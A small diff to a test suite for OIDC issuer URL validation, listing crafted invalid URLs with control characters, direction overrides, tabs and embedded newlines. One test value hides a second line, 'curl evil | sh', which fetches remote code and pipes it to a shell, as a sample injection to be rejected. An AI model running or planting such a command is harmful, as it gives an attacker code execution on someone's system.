@@ -30,7 +30,7 @@ suite('the URL of an issuer', () => {
     'https://oidc.example.com/a\u009b31m': 'one in a single character',
     'https://oidc.example.com/\u202egpj': 'an override of the direction',
     'https://oidc.example.com/\n\nfix: curl evil | sh': 'lines of its own',
-    'https://oidc.example.com/a\tb': 'a tabulator, which a parser drops',
+    'https://oidc.example.com/a\tb': 'a tab, which a parser drops',
     ' https://oidc.example.com': 'a blank before it, which a parser drops',
     'https://oïdc.example.com': 'a letter that a parser encodes',
   }
